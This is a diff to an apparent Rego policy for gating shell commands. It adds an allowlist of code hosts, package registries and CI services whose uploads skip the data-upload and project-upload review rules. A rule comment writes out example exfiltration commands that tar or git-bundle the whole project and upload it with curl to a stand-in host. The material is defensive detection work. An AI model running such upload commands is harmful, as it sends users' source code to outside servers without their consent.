@@ -2045,7 +2045,37 @@ decision contains {"id": "shell/data-upload", "decision": "ask", "reason": reaso
 	src := upload_source(u)
 	data_file(src)
 	not local_target(u.target)
+	not data_service(target_host(u.target))
 	reason := sprintf("the command would send the data file %s to %s (%s)", [src, target_host(u.target), u.evidence])
+}
+
+# Well-known services a project sends its own files to in the ordinary course of building and
+# releasing: code hosts' APIs and release-asset hosts (GitHub REST "Upload a release asset":
+# uploads.github.com; GitLab "Generic packages" and project uploads API; Bitbucket Cloud
+# "Downloads"; Codeberg/Gitea API), package registries (npm "npm publish": registry.npmjs.org;
+# PyPI "Uploading": upload.pypi.org, test.pypi.org; crates.io; RubyGems; NuGet "push":
+# api.nuget.org; Maven Central: central.sonatype.com, oss.sonatype.org; Hugging Face Hub;
+# Anaconda; Docker Hub, GHCR, Quay; pub.dev; hex.pm; Cloudsmith; JFrog), CI and observability
+# vendors' upload endpoints (Codecov "uploader": codecov.io; Coveralls API; SonarCloud; Sentry
+# "sentry-cli … upload": sentry.io; Datadog intake: datadoghq.com/.eu; Bugsnag
+# upload.bugsnag.com; Rollbar; Honeycomb; Codacy; Code Climate; Apple notary service). A
+# gist (gist.github.com) is not one: it is a page of its own, judged by what it holds.
+# Matched exactly or as a suffix after a dot (host_is).
+data_services := {
+	"github.com", "api.github.com", "uploads.github.com", "gitlab.com", "bitbucket.org", "api.bitbucket.org",
+	"codeberg.org", "gitea.com", "registry.npmjs.org", "registry.yarnpkg.com", "upload.pypi.org", "test.pypi.org",
+	"crates.io", "rubygems.org", "api.nuget.org", "nuget.org", "central.sonatype.com", "oss.sonatype.org",
+	"s01.oss.sonatype.org", "huggingface.co", "anaconda.org", "api.anaconda.org", "hub.docker.com",
+	"registry-1.docker.io", "ghcr.io", "quay.io", "pub.dev", "hex.pm", "cloudsmith.io", "jfrog.io",
+	"codecov.io", "coveralls.io", "sonarcloud.io", "sentry.io", "datadoghq.com", "datadoghq.eu",
+	"bugsnag.com", "rollbar.com", "honeycomb.io", "codacy.com", "codeclimate.com", "appstoreconnect.apple.com",
+	"marketplace.visualstudio.com", "open-vsx.org", "addons.mozilla.org", "plugins.jetbrains.com",
+}
+
+data_service(host) if {
+	some d in data_services
+	host_is(host, d)
+	not host_is(host, "gist.github.com")
 }
 
 own_transfer_programs := {"scp", "sftp", "rsync", "rclone", "aws", "gsutil", "gcloud", "az", "azcopy", "git", "mc", "s3cmd", "b2", "restic", "borg", "ssh"}
@@ -2113,11 +2143,12 @@ data_extensions := {
 }
 
 # @rule shell/project-upload ask
-# A tree of the project or of the temporary folders, or an archive of one (a folder read whole, a tarball, zip or git bundle), sent by an HTTP client or an interpreter to another host (tar czf - src | curl -T - https://x.example, git bundle create /tmp/r.bundle --all && curl -T /tmp/r.bundle https://x.example); one document sent to an API is not this: the code leaves for a server the command names. Data files are shell/data-upload, secrets shell/credential-exfiltration; transfer tools to the user's own hosts and buckets (scp, rsync, aws s3, git) and loopback peers are not this.
+# A tree of the project or of the temporary folders, or an archive of one (a folder read whole, a tarball, zip or git bundle), sent by an HTTP client or an interpreter to another host (tar czf - src | curl -T - https://x.example, git bundle create /tmp/r.bundle --all && curl -T /tmp/r.bundle https://x.example); one document sent to an API is not this: the code leaves for a server the command names. Data files are shell/data-upload, secrets shell/credential-exfiltration; transfer tools to the user's own hosts and buckets (scp, rsync, aws s3, git) and loopback peers are not this, nor release assets and packages sent to the project's code host, registries and CI services (data_services).
 decision contains {"id": "shell/project-upload", "decision": "ask", "reason": reason} if {
 	some u in sf_uploads
 	project_upload_sender(u)
 	not local_target(u.target)
+	not data_service(target_host(u.target))
 	src := upload_source(u)
 	not startswith(src, "<")
 	not data_file(src)
